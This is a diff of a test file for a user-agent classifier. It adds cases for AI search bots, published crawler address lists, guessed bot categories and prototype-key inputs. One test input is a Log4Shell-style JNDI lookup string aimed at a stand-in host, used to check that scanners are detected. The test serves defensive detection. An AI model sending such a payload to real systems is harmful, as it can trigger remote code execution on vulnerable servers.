@@ -48,7 +48,7 @@ describe('classifyUserAgent', () => {
     [
       'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; ' +
         '+https://perplexity.ai/perplexitybot)',
-      'ai-crawler',
+      'ai-search',
       'PerplexityBot',
     ],
     [
@@ -162,8 +162,28 @@ describe('classifyUserAgent', () => {
     ],
     ['W3C_Validator/1.3 http://validator.w3.org/services', 'validator', 'W3C_Validator'],
   ])('%s → %s', (ua, category, name) => {
-    expect(classifyUserAgent(ua)).toEqual({ isBot: true, category, name });
+    const { isBot, category: got, name: named } = classifyUserAgent(ua);
+    expect({ isBot, category: got, name: named }).toEqual({ isBot: true, category, name });
   });
+
+  it.each([
+    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'googlebot'],
+    ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'bingbot'],
+    [
+      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
+      'gptbot',
+    ],
+    ['AdsBot-Google (+http://www.google.com/adsbot.html)', 'google-special-crawlers'],
+  ])('names the published address list of a crawler that has one: %s', (ua, list) => {
+    expect(classifyUserAgent(ua).crawlerList).toBe(list);
+  });
+
+  it.each([['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)'], ['curl/8.4.0'], [CHROME]])(
+    'names no address list for a bot without one: %s',
+    (ua) => {
+      expect(classifyUserAgent(ua).crawlerList).toBeUndefined();
+    },
+  );
 
   it.each([
     ['Chrome on Windows', CHROME],
@@ -184,11 +204,23 @@ describe('classifyUserAgent', () => {
     expect(classifyUserAgent(ua)).toBe(EMPTY_USER_AGENT);
   });
 
-  it('calls a bot that isbot knows but the table does not name other-bot', () => {
-    const result = classifyUserAgent('Mozilla/5.0 (compatible; SomeUnknownCrawler/1.0; +http://example.com/bot)');
+  it.each([
+    ['Mozilla/5.0 (compatible; SomeUnknownCrawler/1.0; +http://example.com/bot)', 'crawler'],
+    ['Acme Uptime Monitor/2.0', 'monitor'],
+    ['zz-feed-fetcher/1.0 (3 subscribers)', 'feed'],
+    ['${jndi:ldap://x.example/a}', 'scanner'],
+    ['Mozilla/5.0 (compatible; Qzxv/1.0)', 'other-bot'],
+  ])('guesses the category of a bot no table names from its words: %s', (ua, category) => {
+    const result = classifyUserAgent(ua);
     expect(result.isBot).toBe(true);
-    expect(result.category).toBe('other-bot');
+    expect(result.category).toBe(category);
     expect(typeof result.name).toBe('string');
+  });
+
+  it.each([['constructor'], ['__proto__'], ['toString'], ['hasOwnProperty']])('treats %s like any other text', (ua) => {
+    const result = classifyUserAgent(ua);
+    expect(result.category === null || typeof result.category === 'string').toBe(true);
+    expect(result.crawlerList).toBeUndefined();
   });
 
   it('has unique names and patterns that compile', () => {
@@ -228,6 +260,10 @@ describe('createUaClassifier', () => {
       ],
     });
     expect(classify('acme-health/1.0 curl/8.0')).toEqual({ isBot: true, category: 'monitor', name: 'acme-health' });
+    // An extra bot may take a built-in name; it is then not taken for a crawler with published addresses.
+    expect(
+      createUaClassifier({ extraBots: [{ name: 'ours', category: 'crawler', pattern: 'googlebot' }] })('Googlebot/2.1'),
+    ).toEqual({ isBot: true, category: 'crawler', name: 'ours' });
     expect(classify('Partner-42')).toEqual({ isBot: true, category: 'crawler', name: 'partner' });
     // Priority is by row, not by position: an earlier row found later in the string wins.
     expect(classify('late-reader/1 partner-7')).toEqual({ isBot: true, category: 'crawler', name: 'partner' });
